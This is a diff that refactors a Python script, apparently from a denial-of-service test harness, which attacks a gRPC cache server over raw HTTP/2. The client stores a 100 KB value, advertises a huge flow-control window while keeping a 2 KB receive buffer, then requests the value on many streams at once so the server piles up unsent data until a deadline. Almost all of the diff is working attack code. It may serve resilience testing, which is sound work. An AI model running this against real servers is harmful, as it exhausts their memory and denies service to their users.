@@ -15,20 +15,31 @@ WIDE = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, (1 << 31) -
 KEY = b"unread"
 
 
-def attack(options, _, deadline):
-    with grpc.insecure_channel(options.address) as channel:
+def connect(address):
+    """A connection of a client that has room for next to nothing, but says that it has for all."""
+    with grpc.insecure_channel(address) as channel:
         cache_pb2_grpc.CacheServiceStub(channel).Set(cache_pb2.SetRequest(key=KEY, value=b"v" * 100_000))
-    host, _, port = options.address.rpartition(":")
+    host, _, port = address.rpartition(":")
+    connection = socket.socket()
+    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+    connection.settimeout(flood.SEND_S)
+    connection.connect((host, int(port)))
+    connection.sendall(PREFACE + WIDE + frame(SETTINGS, ACK, 0))
+    return connection
+
+
+def call(connection):
+    """Asks for the value on as many streams as there may be."""
     block = flood.header_block()
     request = cache_pb2.GetRequest(key=KEY).SerializeToString()
     body = flood.message_head(len(request)) + request
-    with socket.socket() as connection:
-        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
-        connection.settimeout(flood.SEND_S)
-        connection.connect((host, int(port)))
-        connection.sendall(PREFACE + WIDE + frame(SETTINGS, ACK, 0))
-        for stream in range(1, 2 * CALLS, 2):
-            connection.sendall(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body))
+    for stream in range(1, 2 * CALLS, 2):
+        connection.sendall(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body))
+
+
+def attack(options, _, deadline):
+    with connect(options.address) as connection:
+        call(connection)
         flood.wait_until(deadline)
 
 
